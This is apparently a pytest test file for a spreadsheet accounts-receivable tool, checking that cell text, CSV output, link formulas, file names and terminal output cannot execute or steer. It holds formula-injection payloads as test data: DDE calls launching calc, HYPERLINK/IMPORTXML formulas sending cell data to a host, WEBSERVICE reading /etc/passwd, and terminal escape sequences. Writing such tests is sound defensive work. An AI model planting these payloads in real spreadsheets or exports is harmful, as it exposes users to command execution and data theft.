"""Nothing that is written or printed can be executed: not in cells, links, names, CSV, JSON or on a terminal."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from datetime import date
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import polars as pl
import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from xl_ar.cli import main
from xl_ar.doors.shown import json_text, shown
from xl_ar.excel.reading.apostrophes import as_meant, defused, defused_table
from xl_ar.excel.reading.columnar import read_columns_of
from xl_ar.excel.reading.delimited import read_delimited
from xl_ar.excel.render.links import link_formula
from xl_ar.outcome import Order, Status
from xl_ar.run import run

AS_OF = date(2026, 6, 30)
COMMANDS = (
    "=cmd|'/c calc'!A1", "+cmd|' /C calc'!A0", "-2+3+cmd|'/c calc'!A1", "@SUM(1+1)*cmd|'/c calc'!A1", "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://x/?"&A1,"open")', '=IMPORTXML("http://x","//a")', "＝1+1", "'=1+1", '"&cmd|\'/c calc\'!A1&"',
    "=WEBSERVICE(\"file:///etc/passwd\")", "<f>1+1</f>", "_x003D_1+1",
)  # fmt: skip
NUMBERS = ("-12.50", "0", "12", "-1", "1e-05", "+3.5", "-0.00")
TEXTS = st.text(st.sampled_from("=+-@\t\r'＝a1.e \""), max_size=6)


def ledger(path: Path) -> Path:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "=1+1 'x' & \"y\""
    sheet.append(["Customer", "Name", "Invoice", "Invoice date", "Due date", "Amount", "Currency"])
    for number, text in enumerate(COMMANDS):
        plain = text.replace("\r", " ")  # openpyxl and Excel hold none in a cell
        sheet.append([plain, plain, f"{plain}-{number}", date(2026, 5, 1), date(2026, 5, 31), 10.5 + number, "EUR"])
        for column in (1, 2, 3):
            sheet.cell(number + 2, column).data_type = "s"
    book.save(path)
    return path


def test_cells_of_our_sheets_hold_texts_and_only_our_formulas(tmp_path: Path) -> None:
    path = ledger(tmp_path / "=cmd.xlsx")
    (tmp_path / "out").mkdir()
    outcome = run(path, Order(AS_OF, out=tmp_path / "out"))
    assert outcome.status in (Status.DONE, Status.NEEDS_PERSON), outcome.message
    assert outcome.output == tmp_path / "out" / "=cmd.xlsx"
    with zipfile.ZipFile(path) as before, zipfile.ZipFile(outcome.output) as after:
        new = sorted(set(after.namelist()) - set(before.namelist()))
        texts = 0
        for name in new:
            content = after.read(name).decode()
            formulas = re.findall(r"<f[^>]*>([^<]*)</f>", content)
            assert not [each for each in formulas if re.search(r"cmd|calc|HYPERLINK\(\"(?!#)|WEBSERVICE|IMPORT", each)]
            assert "TargetMode" not in content
            assert not re.search(r"<hyperlink[^>]*\br:id=", content)
            if name.endswith(".rels"):
                assert not re.search(r"(?i)javascript:|file:|//[^/]|ddeLink|externalLink|oleObject", _targets(content))
            texts += content.count("cmd|")
        assert texts  # they are there, as texts
        quoted = _styles_of_text(after)
        sheets = [after.read(name).decode() for name in new if "/worksheets/sheet" in name]
    cells = [
        match
        for sheet in sheets
        for match in re.finditer(r'<c r="\w+" s="(\d+)" t="inlineStr"><is><t[^>]*>([=+@-])', sheet)
    ]
    assert cells
    assert {int(match[1]) for match in cells} <= quoted


def _targets(relationships: str) -> str:
    return " ".join(re.findall(r'Target="([^"]*)"', relationships))


def _styles_of_text(package: zipfile.ZipFile) -> set[int]:
    root = ElementTree.fromstring(package.read("xl/styles.xml"))
    formats = root.find("{*}cellXfs")
    assert formats is not None
    text = {"49", *(code.get("numFmtId") for code in root.iterfind("{*}numFmts/*") if code.get("formatCode") == "@")}
    return {n for n, xf in enumerate(formats) if xf.get("quotePrefix") == "1" or xf.get("numFmtId") in text}


@pytest.mark.parametrize("text", COMMANDS)
def test_a_text_within_a_link_formula_stays_a_literal(text: str) -> None:
    made = link_formula("A1", 0, "'Items'!A1", text)
    assert made is not None
    formula = ElementTree.fromstring(made).findtext("f")
    assert formula is not None
    assert re.fullmatch(r'HYPERLINK\("#\'Items\'!A1","(?:[^"]|"")*"\)', formula, re.S)


@pytest.mark.parametrize("text", COMMANDS[:7])
def test_csv_texts_are_defused_and_numbers_are_not(text: str) -> None:
    assert defused(text).startswith("'")
    assert [defused(number) for number in NUMBERS] == list(NUMBERS)


@given(TEXTS)
def test_what_is_defused_is_harmless_and_comes_back(text: str) -> None:
    written = defused(text)
    assert as_meant(written) == text or written == text
    if not re.fullmatch(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?", text):
        assert as_meant(written) == text
        assert written[:1] not in ("=", "+", "-", "@", "\t", "\r", "＝")


@given(st.lists(TEXTS, min_size=1, max_size=8))
def test_a_table_is_defused_as_its_texts_are(texts: list[str]) -> None:
    table = defused_table(pl.DataFrame({"text": texts, "minor": range(len(texts))}))
    assert table["text"].to_list() == [defused(text) for text in texts]
    assert table["minor"].to_list() == list(range(len(texts)))


def test_both_readers_take_the_apostrophe_off(tmp_path: Path) -> None:
    path = tmp_path / "export.csv"
    path.write_text("Customer,Amount\n'=Alder,'-12.50\nO'Neil,3\n''=x,4\n", encoding="utf-8")
    assert read_delimited(path) == [["Customer", "Amount"], ["=Alder", "-12.50"], ["O'Neil", "3"], ["'=x", "4"]]
    assert read_columns_of(path) is None  # left to the reader above
    path.write_text("Customer,Amount\nO'Neil,3\n", encoding="utf-8")
    assert read_columns_of(path) is not None


def test_a_plain_table_is_written_defused(tmp_path: Path) -> None:
    items = tmp_path / "items.csv"
    with items.open("w", newline="", encoding="utf-8") as stream:
        rows = csv.writer(stream)
        rows.writerow(["Customer", "Invoice", "Invoice date", "Due date", "Amount", "Currency"])
        rows.writerows(
            [text, f"INV-{n}", "2026-05-01", "2026-05-31", "10.50", "EUR"] for n, text in enumerate(COMMANDS[:4])
        )
        rows.writerow(["Alder", "=1+1", "2026-05-01", "2026-05-31", "-7.25", "EUR"])
    result = CliRunner().invoke(main, ["age", "--open-items", str(items), "--as-of", "2026-06-30"])
    assert result.exit_code == 0, result.output
    found = list(csv.reader(io.StringIO(result.stdout)))
    fields = [field for row in found for field in row]
    assert "-7.25" in fields
    assert "'=cmd|'/c calc'!A1" in fields
    assert not [field for field in fields if field[:1] in set("=+@\t\r")]
    assert not [field for field in fields if field.startswith("-") and not re.fullmatch(r"-\d+(\.\d+)?", field)]


STEERING = "a\x1b[31mred\x1b]0;title\x07\x9b1m\u202e\nrefused forged\r\x08.xlsx"


def test_names_cannot_steer_a_terminal(tmp_path: Path) -> None:
    (tmp_path / STEERING).write_bytes(b"%PDF-1.7")
    result = CliRunner().invoke(main, ["batch", str(tmp_path), "--as-of", "2026-06-30"], color=True)
    line = next(line for line in result.output.splitlines() if ".xlsx" in line)
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", line)
    assert "a\\x1b[31mred" in line
    assert "\\x0arefused forged" in line


def test_json_holds_the_very_name_and_no_sign_that_steers(tmp_path: Path) -> None:
    (tmp_path / STEERING).write_bytes(b"%PDF-1.7")
    result = CliRunner().invoke(main, ["batch", str(tmp_path), "--as-of", "2026-06-30", "--json"])
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]", result.stdout)
    assert json.loads(result.stdout)["workbooks"][0]["path"] == str(tmp_path / STEERING)


@given(st.text())
def test_what_is_shown_is_one_printable_line(text: str) -> None:
    assert not re.search("[\x00-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069\ud800-\udfff]", shown(text))
    assert json.loads(json_text({"text": text})) == {"text": text}
    json_text(text).encode()


@pytest.mark.parametrize(
    "name",
    ["=cmd.xlsx", "-1+1.xlsx", "@x.xlsx", 'it\'s "x" & <y>.xlsx', "a\nb.xlsx", "..x.xlsx", "[1]x'!A1.xlsx", "%s.xlsx"],
)
def test_workbooks_of_any_name(tmp_path: Path, name: str) -> None:
    path = ledger(tmp_path / name)
    before = path.read_bytes()
    outcome = run(path, Order(AS_OF))
    assert outcome.status in (Status.DONE, Status.NEEDS_PERSON), outcome.message
    kept = [each for each in tmp_path.iterdir() if each.name not in (name, "xl_ar_audit.jsonl")]
    assert [each.read_bytes() for each in kept] == [before]
    openpyxl.load_workbook(path).close()
